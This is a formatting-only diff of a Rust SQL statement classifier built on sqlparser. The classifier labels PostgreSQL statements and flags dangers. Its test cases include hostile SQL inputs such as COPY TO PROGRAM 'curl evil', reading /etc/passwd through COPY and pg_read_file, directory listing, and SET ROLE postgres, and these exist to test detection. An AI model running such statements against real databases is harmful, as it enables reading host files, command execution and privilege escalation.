@@ -7,8 +7,8 @@ use std::{collections::BTreeSet, ops::ControlFlow};
 
 use sqlparser::{
     ast::{
-        CopySource, CopyTarget, Expr, FromTable, ObjectName, ObjectType, Query, Set, Statement, TableFactor,
-        TableObject, Visit, Visitor,
+        CopySource, CopyTarget, Expr, FromTable, ObjectName, ObjectType, Query, Set, Statement,
+        TableFactor, TableObject, Visit, Visitor,
     },
     dialect::PostgreSqlDialect,
     parser::Parser,
@@ -43,7 +43,8 @@ const DEFAULT_SCHEMA: &str = "public";
 /// schema-qualified and folded to lower case unless quoted. `Err` carries
 /// the parser's message.
 pub fn classify(sql: &str) -> Result<Vec<Operation>, String> {
-    let statements = Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|err| err.to_string())?;
+    let statements =
+        Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|err| err.to_string())?;
     Ok(statements.iter().map(classify_statement).collect())
 }
 
@@ -81,7 +82,10 @@ fn top_kind(statement: &Statement) -> StatementKind {
                 Read
             }
         }
-        Statement::Insert(_) | Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_) => Write,
+        Statement::Insert(_)
+        | Statement::Update(_)
+        | Statement::Delete(_)
+        | Statement::Merge(_) => Write,
         Statement::Copy { to: true, .. } => Read,
         Statement::Copy { to: false, .. } => Write,
         Statement::StartTransaction { .. }
@@ -89,9 +93,16 @@ fn top_kind(statement: &Statement) -> StatementKind {
         | Statement::Rollback { .. }
         | Statement::Savepoint { .. }
         | Statement::ReleaseSavepoint { .. } => Transaction,
-        Statement::Grant(_) | Statement::Revoke(_) | Statement::GrantRole(_) | Statement::RevokeRole(_) => Dcl,
+        Statement::Grant(_)
+        | Statement::Revoke(_)
+        | Statement::GrantRole(_)
+        | Statement::RevokeRole(_) => Dcl,
         Statement::CreateRole(_) | Statement::AlterRole { .. } => Dcl,
-        Statement::Drop { object_type, .. } if matches!(object_type, ObjectType::Role | ObjectType::User) => Dcl,
+        Statement::Drop { object_type, .. }
+            if matches!(object_type, ObjectType::Role | ObjectType::User) =>
+        {
+            Dcl
+        }
         Statement::Set(set) => set_kind(set),
         Statement::ShowVariable { .. }
         | Statement::ShowVariables { .. }
@@ -160,7 +171,10 @@ impl Visitor for Walker {
     fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
         if let Some(with) = &query.with {
             for cte in &with.cte_tables {
-                self.cte_names.insert(qualify(&cte.alias.name.value, cte.alias.name.quote_style.is_some()));
+                self.cte_names.insert(qualify(
+                    &cte.alias.name.value,
+                    cte.alias.name.quote_style.is_some(),
+                ));
             }
         }
         ControlFlow::Continue(())
@@ -214,7 +228,9 @@ impl Visitor for Walker {
             }
             Statement::Delete(delete) => {
                 let tables = match &delete.from {
-                    FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables) => tables,
+                    FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables) => {
+                        tables
+                    }
                 };
                 for table in tables {
                     if let TableFactor::Table { name, .. } = &table.relation {
@@ -234,8 +250,13 @@ impl Visitor for Walker {
                 }
                 self.dangers.insert(Danger::Truncate);
             }
-            Statement::Drop { names, object_type, .. } => {
-                if matches!(object_type, ObjectType::Table | ObjectType::View | ObjectType::MaterializedView) {
+            Statement::Drop {
+                names, object_type, ..
+            } => {
+                if matches!(
+                    object_type,
+                    ObjectType::Table | ObjectType::View | ObjectType::MaterializedView
+                ) {
                     for name in names {
                         self.written.insert(table_name(name));
                     }
@@ -246,10 +267,15 @@ impl Visitor for Walker {
                 self.written.insert(table_name(&alter.name));
                 self.dangers.insert(Danger::Alter);
             }
-            Statement::AlterIndex { .. } | Statement::AlterView { .. } | Statement::AlterRole { .. } => {
+            Statement::AlterIndex { .. }
+            | Statement::AlterView { .. }
+            | Statement::AlterRole { .. } => {
                 self.dangers.insert(Danger::Alter);
             }
-            Statement::Grant(_) | Statement::Revoke(_) | Statement::GrantRole(_) | Statement::RevokeRole(_) => {
+            Statement::Grant(_)
+            | Statement::Revoke(_)
+            | Statement::GrantRole(_)
+            | Statement::RevokeRole(_) => {
                 self.dangers.insert(Danger::GrantRevoke);
             }
             Statement::Set(set) => {
@@ -269,7 +295,10 @@ impl Visitor for Walker {
             Statement::Copy {
                 source, to, target, ..
             } => {
-                if let CopySource::Table { table_name: name, .. } = source {
+                if let CopySource::Table {
+                    table_name: name, ..
+                } = source
+                {
                     if !*to {
                         self.written.insert(table_name(name));
                     }
@@ -360,7 +389,10 @@ mod tests {
             ("COPY customers TO STDOUT", Read),
             ("COPY customers FROM STDIN", Write),
             ("SELECT * INTO t2 FROM customers", Write),
-            ("WITH gone AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM gone", Write),
+            (
+                "WITH gone AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM gone",
+                Write,
+            ),
         ] {
             assert_eq!(one(sql).kind, kind, "{sql}");
         }
@@ -391,15 +423,36 @@ mod tests {
             ("TRUNCATE customers", Some(Danger::Truncate)),
             ("DELETE FROM customers", Some(Danger::DeleteWithoutWhere)),
             ("DELETE FROM customers WHERE id = 3", None),
-            ("UPDATE customers SET name = 'x'", Some(Danger::UpdateWithoutWhere)),
+            (
+                "UPDATE customers SET name = 'x'",
+                Some(Danger::UpdateWithoutWhere),
+            ),
             ("UPDATE customers SET name = 'x' WHERE id = 1", None),
-            ("ALTER TABLE customers DROP COLUMN email", Some(Danger::Alter)),
-            ("GRANT ALL ON customers TO public", Some(Danger::GrantRevoke)),
-            ("COPY customers TO PROGRAM 'curl evil'", Some(Danger::CopyProgram)),
+            (
+                "ALTER TABLE customers DROP COLUMN email",
+                Some(Danger::Alter),
+            ),
+            (
+                "GRANT ALL ON customers TO public",
+                Some(Danger::GrantRevoke),
+            ),
+            (
+                "COPY customers TO PROGRAM 'curl evil'",
+                Some(Danger::CopyProgram),
+            ),
             ("COPY customers TO STDOUT", None),
-            ("COPY customers FROM '/etc/passwd'", Some(Danger::FileOrProgramFunction)),
-            ("SELECT pg_read_file('/etc/passwd')", Some(Danger::FileOrProgramFunction)),
-            ("SELECT * FROM pg_ls_dir('/')", Some(Danger::FileOrProgramFunction)),
+            (
+                "COPY customers FROM '/etc/passwd'",
+                Some(Danger::FileOrProgramFunction),
+            ),
+            (
+                "SELECT pg_read_file('/etc/passwd')",
+                Some(Danger::FileOrProgramFunction),
+            ),
+            (
+                "SELECT * FROM pg_ls_dir('/')",
+                Some(Danger::FileOrProgramFunction),
+            ),
             ("SELECT length('/etc/passwd')", None),
             ("SET ROLE postgres", Some(Danger::SetRole)),
             ("SET SESSION AUTHORIZATION postgres", Some(Danger::SetRole)),
